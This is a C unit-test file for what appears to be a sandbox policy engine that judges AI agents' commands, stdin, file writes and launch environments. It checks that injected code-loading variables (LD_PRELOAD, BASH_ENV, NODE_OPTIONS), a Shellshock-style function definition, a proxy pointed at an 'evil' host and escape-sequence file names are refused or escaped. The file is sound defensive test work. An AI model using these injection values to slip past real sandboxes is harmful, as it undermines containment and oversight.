static void only_the_interrupt_key_is_typed(void **state)
{
	static const struct { const char *typed; size_t bytes; char expected; } cases[] = {
		{ "\x03", 1, 'a' }, { "\x03\x03", 2, 'a' }, { "", 0, 'd' }, { "\x03q", 2, 'd' }, { "q\x03", 2, 'd' }, { "\x04", 1, 'd' }, { "\0", 1, 'd' },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct action action = { .kind = ACTION_STDIN, .typed = cases[i].typed, .typed_bytes = cases[i].bytes };
		const struct decision d = ask(MODE_READONLY, &action);

		assert_int_equal(verdict_letter(d.verdict), cases[i].expected);
		if (d.verdict == VERDICT_DENY)
			assert_string_equal(d.tag, "unreviewable_stdin");
	}
}

static void nobody_reviews_means_deny_or_a_marked_allow(void **state)
{
	const char *const argv[] = { "python3", NULL };
	const struct action action = { .kind = ACTION_EXEC, .program = "/usr/bin/python3.11", .argv = argv };
	struct judge_subject subject = subject_in(MODE_GUARDED);
	struct decision d = ask(MODE_GUARDED, &action), rm;

	(void)state;
	assert_int_equal(d.verdict, VERDICT_REVIEW);
	judge_settle(&subject, &d);
	assert_int_equal(d.verdict, VERDICT_DENY);
	assert_string_equal(d.tag, "review_unavailable");
	assert_non_null(d.hint);
	check_form(&d);

	d = ask(MODE_GUARDED, &action);
	subject.unreviewed_allow = true;
	judge_settle(&subject, &d);
	assert_int_equal(d.verdict, VERDICT_ALLOW);
	assert_true(d.unreviewed);
	assert_null(d.tag);

	rm = (struct decision){ .verdict = VERDICT_DENY, .tag = "hardline", .rule = "x", .origin = { .file = "" } };
	judge_settle(&subject, &rm);
	assert_int_equal(rm.verdict, VERDICT_DENY);
	assert_string_equal(rm.tag, "hardline");
}

static void what_agents_wrote_is_escaped_and_cut(void **state)
{
	char name[3000];
	const char *const argv[] = { name, NULL };
	const struct action action = { .kind = ACTION_EXEC, .argv = argv }, path = { .kind = ACTION_WRITE, .path = name };
	struct decision d;

	(void)state;
	memset(name, 0xff, sizeof(name));
	memcpy(name, "/\x1b[31m'\\", 8);
	name[sizeof(name) - 1] = '\0';
	d = ask(MODE_GUARDED, &action);
	assert_non_null(strstr(d.reason, "\\x1b[31m\\x27\\x5c\\xff"));
	assert_non_null(strstr(d.reason, "...'"));
	d = ask(MODE_GUARDED, &path);
	assert_string_equal(d.tag, "outside_root");
}

static void a_request_that_is_none_is_denied(void **state)
{
	const struct action action = { .kind = (enum action_kind)99 }, read = { .kind = ACTION_READ, .path = "/x" };
	const struct judge_subject subject = { .mode = (enum mode)7 };
	struct decision d;

	(void)state;
	assert_string_equal(ask(MODE_GUARDED, &action).tag, "invalid_request");
	judge(policy, &subject, &read, &d);
	assert_string_equal(d.tag, "invalid_request");
}

/* ---- launches ---- */

static void a_launch_tightens_and_never_loosens(void **state)
{
	enum mode container, asked, got;

	(void)state;
	for (container = MODE_OFF; container < MODE_COUNT; container++) {
		assert_int_equal(judge_launch_mode(policy, container, NULL, false, false, &got, NULL), 0);
		assert_int_equal(got, container);
		for (asked = MODE_OFF; asked < MODE_COUNT; asked++) {
			struct err e = { 0 };
			int r = judge_launch_mode(policy, container, &asked, false, true, &got, &e);

			assert_int_equal(r, asked < container ? -EPERM : 0);
			if (r == 0)
				assert_int_equal(got, asked);
			else
				assert_non_null(strstr(e.text, "never loosen"));
		}
	}
	asked = (enum mode)9;
	assert_int_equal(judge_launch_mode(policy, MODE_OFF, &asked, false, false, &got, NULL), -EPERM);
}

static void unattended_launches_are_corrected(void **state)
{
	enum mode container, ceiling, got;

	(void)state;
	for (container = MODE_OFF; container < MODE_COUNT; container++)
		for (ceiling = MODE_OFF; ceiling < MODE_COUNT; ceiling++) {
			policy->max_unattended = ceiling;
			assert_int_equal(judge_launch_mode(policy, container, NULL, true, false, &got, NULL), 0);
			assert_int_equal(got, MODE_READONLY);
			assert_int_equal(judge_launch_mode(policy, container, NULL, true, true, &got, NULL), 0);
			assert_int_equal(got, container == MODE_OFF ? ceiling : MODE_READONLY);
		}
	policy->max_unattended = MODE_OFF;
}

static const char *value_of(char *const *environment, const char *name)
{
	size_t len = strlen(name);

	for (; *environment; environment++)
		if (strncmp(*environment, name, len) == 0 && (*environment)[len] == '=')
			return *environment + len + 1;
	return NULL;
}

static void free_environment(char **environment)
{
	size_t i;

	for (i = 0; environment[i]; i++)
		free(environment[i]);
	free(environment);
}

static const char *const image[] = { "PATH=/usr/lib/cordon/entry:/opt/bin:/usr/bin", "PYTHONPATH=/opt/image", "IMAGE=1", "junk", NULL };
static const char *const added[] = { "http_proxy=http://127.0.0.1:48080", NULL };
static const struct launch_user_facts user = { "agent", "/home/agent", "/bin/bash" };

static char **launch_with(enum mode mode, const char *const *asked, struct decision *ret)
{
	char **environment = NULL;

	const struct launch_given given = { .user = &user, .image = image, .asked = asked, .added = added, .entry_folder = "/usr/lib/cordon/entry" };

	assert_int_equal(judge_launch_environment(policy, mode, &given, ret, &environment), 0);
	check_form(ret);
	assert_int_equal(ret->verdict == VERDICT_ALLOW, environment != NULL);
	return environment;
}

static void a_launch_begins_with_image_host_and_cordon(void **state)
{
	const char *const asked[] = { "PATH=/usr/lib/cordon/entry:/opt/bin:/usr/bin", "PYTHONPATH=/opt/image", "HOME=/root", "K=V=W", "EMPTY=", "http_proxy=http://evil",
				      "=x", "K2=a", "K2=b", NULL };
	struct decision d;
	char **environment = launch_with(MODE_GUARDED, asked, &d);

	(void)state;
	assert_non_null(environment);
	assert_string_equal(value_of(environment, "PATH"), "/opt/bin:/usr/bin");
	assert_string_equal(value_of(environment, "PYTHONPATH"), "/opt/image");
	assert_string_equal(value_of(environment, "IMAGE"), "1");
	assert_string_equal(value_of(environment, "HOME"), "/home/agent");
	assert_string_equal(value_of(environment, "USER"), "agent");
	assert_string_equal(value_of(environment, "LOGNAME"), "agent");
	assert_string_equal(value_of(environment, "SHELL"), "/bin/bash");
	assert_string_equal(value_of(environment, "K"), "V=W");
	assert_string_equal(value_of(environment, "EMPTY"), "");
	assert_string_equal(value_of(environment, "K2"), "b");
	assert_string_equal(value_of(environment, "http_proxy"), "http://127.0.0.1:48080");
	free_environment(environment);
}

static void a_launch_that_asks_for_other_code_is_denied(void **state)
{
	static const char *const names[] = { "LD_PRELOAD=x", "PYTHONPATH=/workspace", "BASH_ENV=x", "BASH_FUNC_x%%=() { :; }", "NODE_OPTIONS" };
	struct decision d;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(names); i++) {
		const char *const asked[] = { "A=b", names[i], NULL };
		char **environment = launch_with(MODE_GUARDED, asked, &d);

		assert_null(environment);
		assert_string_equal(d.tag, "environment");
		environment = launch_with(MODE_OFF, asked, &d);		/* nothing is blocked in off */
		assert_non_null(environment);
		free_environment(environment);
	}
}

static void environment_modes_select(void **state)
{
	static const char *items[] = { "K", NULL }, *denied[] = { "IMAGE", "K", NULL };
	const char *const asked[] = { "K=1", "L=2", "LC_ALL=C", NULL };
	struct environment before = policy->environment;
	struct decision d;
	char **environment;

	(void)state;
	policy->environment.allow.exact = (struct strings){ .items = items, .nr = 1 };
	environment = launch_with(MODE_GUARDED, asked, &d);	/* "all" with a list: only those, and the baseline */
	assert_non_null(value_of(environment, "K"));
	assert_null(value_of(environment, "L"));
	assert_non_null(value_of(environment, "LC_ALL"));
	assert_non_null(value_of(environment, "IMAGE"));
	free_environment(environment);

	policy->environment.deny = (struct strings){ .items = denied, .nr = 2 };
	policy->environment.image_pass = false;
	environment = launch_with(MODE_GUARDED, asked, &d);	/* deny wins */
	assert_null(value_of(environment, "K"));
	assert_null(value_of(environment, "IMAGE"));
	assert_null(value_of(environment, "PYTHONPATH"));
	assert_string_equal(value_of(environment, "PATH"), "/opt/bin:/usr/bin");
	free_environment(environment);

	policy->environment = before;
	policy->environment.mode = ENV_SELECTED;
	environment = launch_with(MODE_GUARDED, asked, &d);
	assert_null(value_of(environment, "K"));
	assert_non_null(value_of(environment, "LC_ALL"));
	free_environment(environment);
	policy->environment = before;
}

struct told {
	char text[2048];
};

static void note(void *context, const char *entry, enum env_origin origin, bool passes, const char *why)
{
	struct told *told = context;
	size_t used = strlen(told->text);

	snprintf(told->text + used, sizeof(told->text) - used, "%s/%d/%c/%s\n", entry, (int)origin, passes ? '+' : '-', why);
}

/* A preset's names pass besides what passes anyhow; deny and code names stay. */
static void a_preset_gives_its_names_and_no_other(void **state)
{
	static const char *names[] = { "TOOL_KEY", NULL }, *denied[] = { "TOOL_KEY", NULL };
	const char *const from_image[] = { "TOOL_KEY=image", "OTHER=x", "PATH=/usr/lib/cordon/entry:/workspace/bin:/usr/bin", NULL };
	const char *const asked[] = { "TOOL_KEY2=a", "TOOL_KE=b", "TOOL_KEY_=c", "tool_key=d", NULL }, *const again[] = { "TOOL_KEY=client", NULL };
	const char *const loads[] = { "TOOL_KEY=k", "LD_PRELOAD=x", "LC_ALL=C", NULL };
	const struct strings list = { .items = names, .nr = 1 };
	struct told told = { "" };
	const struct env_listener listener = { note, &told };
	struct launch_given given = { .user = &user, .image = from_image, .asked = asked, .added = added, .entry_folder = "/usr/lib/cordon/entry", .also = &list, .path = "/usr/bin" };
	const struct environment before = policy->environment;
	char **environment = NULL;
	struct decision d;

	(void)state;
	policy->environment.mode = ENV_SELECTED;
	policy->environment.image_pass = false;
	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
	assert_string_equal(value_of(environment, "TOOL_KEY"), "image");
	assert_string_equal(value_of(environment, "PATH"), "/usr/bin");
	for (size_t i = 0; i < 4; i++)
		assert_null(value_of(environment, ((const char *const[]){ "OTHER", "TOOL_KEY2", "TOOL_KE", "tool_key" })[i]));
	free_environment(environment);

	given.asked = again;
	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
	assert_string_equal(value_of(environment, "TOOL_KEY"), "client");
	free_environment(environment);

	given.also = NULL;
	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
	assert_null(value_of(environment, "TOOL_KEY"));
	free_environment(environment);

	given.also = &list;
	policy->environment.deny = (struct strings){ .items = denied, .nr = 1 };
	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
	assert_null(value_of(environment, "TOOL_KEY"));
	free_environment(environment);

	/* All is told, also of what is refused, and nothing comes of it. */
	policy->environment.deny = before.deny;
	given.asked = loads;
	given.listener = &listener;
	environment = NULL;
	assert_int_equal(judge_launch_environment(policy, MODE_GUARDED, &given, &d, &environment), 0);
	assert_null(environment);
	assert_string_equal(d.tag, "environment");
	for (size_t i = 0; i < 7; i++)
		if (!strstr(told.text, ((const char *const[]){ "OTHER=x/0/-/not in baseline or allow\n", "TOOL_KEY=k/1/+/preset\n", "LD_PRELOAD=x/1/-/changes which code",
							       "LC_ALL=C/1/+/baseline\n", "HOME=/home/agent/2/+/passwd\n", "http_proxy=http://127.0.0.1:48080/3/+/added\n",
							       "PATH=/usr/bin/0/+/baseline\n" })[i]))
			fail_msg("%zu: %s", i, told.text);
	assert_null(strstr(told.text, "LD_PRELOAD=x/1/+"));
	policy->environment = before;
}

static void what_got_a_presets_variables_is_the_presets_file(void **state)
{
	struct judge_subject subject = subject_in(MODE_GUARDED);
	struct decision d;

	(void)state;
	assert_true(judge_preset_exec(&subject, "/workspace/tool", &d));
	subject.preset_program = "/opt/tool";
	assert_true(judge_preset_exec(&subject, "/opt/tool", &d));
	for (size_t i = 0; i < 4; i++) {
		assert_false(judge_preset_exec(&subject, ((const char *const[]){ "/workspace/tool", "/opt/tool2", "/opt", "tool" })[i], &d));
		check_form(&d);
		assert_string_equal(d.tag, "environment");
		assert_string_equal(d.rule, "environment.preset");
	}
}

static void the_entry_folder_leaves_path_in_every_place(void **state)
{
	static const struct { const char *path, *expected; } cases[] = {
		{ "PATH=/usr/lib/cordon/entry:/bin", "/bin" }, { "PATH=/bin:/usr/lib/cordon/entry", "/bin" }, { "PATH=/a:/usr/lib/cordon/entry:/b", "/a:/b" },
		{ "PATH=/usr/lib/cordon/entry/:/a", "/a" }, { "PATH=/usr/lib/cordon/entry", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" },
		{ "PATH=", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" }, { "PATH=/a=:/b", "/a=:/b" }, { "PATH=/usr/lib/cordon/entry2:/b", "/usr/lib/cordon/entry2:/b" },
	};
	struct decision d;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		const char *const asked[] = { cases[i].path, NULL };
		char **environment = launch_with(MODE_GUARDED, asked, &d);

		assert_string_equal(value_of(environment, "PATH"), cases[i].expected);
		free_environment(environment);
	}
}

/* ---- cost ---- */

static int compare_numbers(const void *a, const void *b)
{
	const double *x = a, *y = b;

	return *x < *y ? -1 : *x > *y;
}

/* DESIGN's budget is 50 microseconds; a sanitizer may take ten times what a release takes. */
static void one_exec_decision_is_cheap(void **state)
{
	char names[40][32];
	const char *environment[41] = { NULL };
	const char *const argv[] = { "curl", "-sS", "-H", "A: b", "-o", "/tmp/x", "https://target.test/", NULL };
	const struct action action = { .kind = ACTION_EXEC, .program = "/usr/bin/curl", .argv = argv, .environment = environment, .cwd = "/workspace" };
	struct judge_subject subject = subject_in(MODE_GUARDED);
	static double samples[2001];
	struct decision d;
	size_t i;

	(void)state;
	for (i = 0; i < 40; i++) {
		snprintf(names[i], sizeof(names[i]), "NAME_%zu=value", i);
		environment[i] = names[i];
	}
	for (i = 0; i < ARRAY_SIZE(samples); i++) {
		struct timespec from, to;

		clock_gettime(CLOCK_MONOTONIC, &from);
		judge(policy, &subject, &action, &d);
		clock_gettime(CLOCK_MONOTONIC, &to);
		samples[i] = (double)(to.tv_sec - from.tv_sec) * 1e6 + (double)(to.tv_nsec - from.tv_nsec) / 1e3;
	}
	qsort(samples, ARRAY_SIZE(samples), sizeof(samples[0]), compare_numbers);
	print_message("judge(): median %.1f us per exec with 40 names\n", samples[ARRAY_SIZE(samples) / 2]);
	assert_true(samples[ARRAY_SIZE(samples) / 2] < 500);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(programs_are_judged_by_what_they_do),
		cmocka_unit_test(scripts_are_their_interpreter_and_themselves),
		cmocka_unit_test(a_tool_is_its_own_helper),
		cmocka_unit_test(a_tool_starts_its_helpers),
		cmocka_unit_test(readonly_start_files_ask_who_they_are),
		cmocka_unit_test(readonly_writes_to_what_keeps_nothing),
		cmocka_unit_test(followed_wrappers_are_judged_where_they_exec),
		cmocka_unit_test(followed_wrappers_are_peeled_in_text),
		cmocka_unit_test(command_texts_are_judged_command_by_command),
		cmocka_unit_test(requests_are_held_to_the_scope),
		cmocka_unit_test(http_requests_are_judged_by_method_and_place),
		cmocka_unit_test(a_typical_line_is_decided_quickly),
		cmocka_unit_test(an_exec_brings_no_code_loading_names_of_its_own),
		cmocka_unit_test(paths_are_judged_in_their_order),
		cmocka_unit_test(off_refuses_only_cordons_own),
		cmocka_unit_test(skill_folders_are_read_and_never_written),
		cmocka_unit_test(roots_are_a_second_axis),
		cmocka_unit_test(addresses_are_judged_in_every_spelling),
		cmocka_unit_test(listeners_of_agents_are_reached_on_loopback_only),
		cmocka_unit_test(a_declared_scope_is_all_there_is),
		cmocka_unit_test(a_launch_narrows_the_scope_and_never_widens_it),
		cmocka_unit_test(a_narrowed_launch_asks_for_nothing_else),
		cmocka_unit_test(limits_of_a_launch_only_tighten),
		cmocka_unit_test(a_scope_that_cannot_be_read_is_an_error),
		cmocka_unit_test(other_families_and_malformed_addresses),
		cmocka_unit_test(names_set_by_text_are_judged_more_strictly_than_at_an_exec),
		cmocka_unit_test(only_the_interrupt_key_is_typed),
		cmocka_unit_test(nobody_reviews_means_deny_or_a_marked_allow),
		cmocka_unit_test(what_agents_wrote_is_escaped_and_cut),
		cmocka_unit_test(a_request_that_is_none_is_denied),
		cmocka_unit_test(a_launch_tightens_and_never_loosens),
		cmocka_unit_test(unattended_launches_are_corrected),
		cmocka_unit_test(a_launch_begins_with_image_host_and_cordon),
		cmocka_unit_test(a_launch_that_asks_for_other_code_is_denied),
		cmocka_unit_test(environment_modes_select),
		cmocka_unit_test(a_preset_gives_its_names_and_no_other),
		cmocka_unit_test(what_got_a_presets_variables_is_the_presets_file),
		cmocka_unit_test(the_entry_folder_leaves_path_in_every_place),
		cmocka_unit_test(one_exec_decision_is_cheap),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
